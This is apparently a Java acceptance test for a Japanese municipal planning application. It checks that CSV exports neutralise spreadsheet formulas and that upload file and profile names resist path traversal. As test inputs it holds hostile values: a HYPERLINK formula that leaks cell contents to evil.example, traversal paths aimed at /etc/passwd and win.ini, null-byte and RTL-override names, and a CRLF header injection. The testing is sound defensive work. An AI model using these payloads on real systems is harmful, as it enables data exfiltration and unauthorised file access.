package daicho.infra.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import daicho.shared.SheetCell;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;

/** Exported sheets execute no formulas when they are opened, come back unchanged, and have harmless names. */
@TestInstance(Lifecycle.PER_CLASS)
class SheetSafetyTest extends AcceptanceTest {
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/\"&A1)",
            "+81-3-1234",
            "-1+1",
            "@SUM(1)",
            "＝１＋１",
            "＋１人",
            "－対象外",
            "＠ＳＵＭ",
            "'=1+1");

    private City city;
    private UUID measure;

    @BeforeAll
    void found_a_city_whose_texts_look_like_formulas() {
        city = City.found(port, tokens);
        measure = city.measure("1");
        for (String text : FORMULAS) {
            city.initiative(measure, "\"title\": " + quoted(text) + ",", city.welfare);
        }
        for (int i = 0; i < FORMULAS.size(); i++) {
            city.secretariat
                    .post("/measures/" + measure + "/initiatives/" + (i + 1) + "/results/R4", """
                            {"text": %s, "programmes": [%s],
                             "figures": [{"label": "増減", "value": -3.50, "unit": "=件", "kind": "ACTUAL"}]}
                            """.formatted(
                                    quoted(FORMULAS.get(i)), quoted(FORMULAS.get(i))))
                    .json();
            city.secretariat
                    .post(
                            "/measures/" + measure + "/initiatives/" + (i + 1) + "/ratings/R4",
                            "{\"mark\": \"○\", \"text\": " + quoted(FORMULAS.get(i)) + "}")
                    .json();
        }
    }

    @Test
    void no_cell_of_a_snapshot_or_an_edition_is_a_formula() {
        String snapshot = city.secretariat
                .get("/plans/" + city.plan + "/snapshot", "Accept", "text/csv")
                .text();
        city.secretariat
                .post("/plans/" + city.plan + "/fiscal-years/R4/closing", "{}")
                .json();
        UUID edition = city.secretariat
                .post("/plans/" + city.plan + "/publications", "{\"fiscalYear\": \"R4\"}")
                .id();
        // Waits for the edition in the views, which citizens cannot do.
        city.secretariat.get("/publications/" + edition).json();
        String published = new Api(port, city.code, null)
                .get("/public/publications/" + edition + ".csv")
                .text();
        for (String table : List.of(snapshot, published)) {
            assertThat(table).contains("measure_code");
            Set<String> read = new TreeSet<>();
            for (List<String> cells : cells(table)) {
                for (String cell : cells) {
                    assertThat(cell).doesNotMatch("(?s)[=@＝＋－＠\\t\\r\\n].*");
                    assertThat(cell)
                            .satisfiesAnyOf(
                                    plain -> assertThat(plain).doesNotMatch("(?s)[+-].*"),
                                    number -> assertThat(number).matches("[+-][0-9]+([.][0-9]+)?"));
                    read.add(SheetCell.read(cell));
                }
            }
            assertThat(read).containsAll(FORMULAS);
        }
    }

    @Test
    void a_sheet_of_our_own_comes_back_as_it_was() {
        String header = "施策コード,取組番号,年度,担当課,実績\r\n";
        StringBuilder sheet = new StringBuilder(header);
        for (int i = 0; i < FORMULAS.size(); i++) {
            sheet.append("1,")
                    .append(i + 1)
                    .append(",R5,福祉課,")
                    .append(cell(asTyped(FORMULAS.get(i))))
                    .append("\r\n");
        }
        // One line is refused, and comes back to be corrected.
        sheet.append("9,1,R5,福祉課,").append(cell("=1+1")).append("\r\n");
        JsonNode report = take(sheet.toString());
        assertThat(report.at("/counts/recorded").asInt()).isEqualTo(FORMULAS.size());
        assertThat(report.path("rejectedCsv").asString()).contains(",'=1+1");
        for (int i = 0; i < FORMULAS.size(); i++) {
            assertThat(result(i + 1).path("text").asString()).isEqualTo(FORMULAS.get(i));
        }
        // In the form in which a spreadsheet shows and keeps it, with the apostrophe: it is the same, so nothing to
        // correct.
        StringBuilder again = new StringBuilder(header);
        for (int i = 0; i < FORMULAS.size(); i++) {
            again.append("1,")
                    .append(i + 1)
                    .append(",R5,福祉課,")
                    .append(cell(SheetCell.written(FORMULAS.get(i))))
                    .append("\r\n");
        }
        JsonNode second = take(again.toString());
        assertThat(second.at("/counts/unchanged").asInt()).isEqualTo(FORMULAS.size());
        assertThat(second.at("/counts/corrected").asInt()).isZero();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "../../etc/passwd                | passwd",
                "..                              | ..",
                "/etc/cron.d/x.csv               | x.csv",
                "C:\\Windows\\win.ini            | win.ini",
                "\\\\server\\share\\x.csv        | x.csv",
                "CON                             | CON",
                "a%00b.csv                       | a%00b.csv",
                "%2e%2e%2fx.csv                  | %2e%2e%2fx.csv",
                "報告\u202Evsc.exe               | 報告vsc.exe",
                "x.csv; filename*=UTF-8''y.csv   | x.csv; filename*=UTF-8''y.csv",
            })
    void a_file_s_name_is_a_name_and_never_a_path(String name, String kept) {
        String parts = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name.replace("\\", "\\\\")
                + "\"\r\nContent-Type: text/csv\r\n\r\n施策コード,担当課\r\n--b--\r\n";
        Api.Answer answer = city.secretariat.send(
                "POST",
                "/intake?profile=daicho&dryRun=true&plan=" + city.plan,
                BodyPublishers.ofString(parts),
                "Content-Type",
                "multipart/form-data; boundary=b");
        assertThat(answer.json().path("fileName").asString()).isEqualTo(kept);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "..%2f..%2fapplication      | 404 | 400",
                "%2e%2e%2fdaicho            | 404 | 400",
                "daicho%00                  | 422 | 400",
                "daicho.yaml                | 404 | 404",
                "/etc/passwd                | 404 | 400",
                "file:%2f%2f%2fetc%2fpasswd | 404 | 400",
                "CON                        | 404 | 404",
                "daicho%0d%0aX-Evil:1       | 404 | 400"
            })
    void a_profile_is_one_of_a_list_and_no_file(String name, int inQuery, int inPath) {
        Api.Answer taken = city.secretariat.take(
                name, "施策コード,担当課\n".getBytes(StandardCharsets.UTF_8), "&plan=" + city.plan, "Content-Disposition", "x");
        assertThat(taken.status()).as(taken.text()).isEqualTo(inQuery);
        Api.Answer template = city.secretariat.get("/intake/profiles/" + name + "/template");
        assertThat(template.status()).as(template.text()).isEqualTo(inPath);
        assertThat(template.header("X-Evil")).isEmpty();
    }

    /** To get an apostrophe before a sign, one has to write two, as Daicho does. */
    private static String asTyped(String text) {
        return text.startsWith("'") ? SheetCell.written(text) : text;
    }

    private JsonNode take(String sheet) {
        return city.secretariat
                .take("daicho", sheet.getBytes(StandardCharsets.UTF_8), "&plan=" + city.plan)
                .json();
    }

    private JsonNode result(int initiative) {
        return city.status("R5").at("/headings/0/headings/0/measures/0/initiatives/" + (initiative - 1) + "/results/0");
    }

    private static List<List<String>> cells(String table) {
        String text = table.startsWith("\uFEFF") ? table.substring(1) : table;
        return CsvReader.builder().ofCsvRecord(text).stream()
                .map(CsvRecord::getFields)
                .toList();
    }

    private static String cell(String text) {
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\"", "\\\"") + "\"";
    }
}
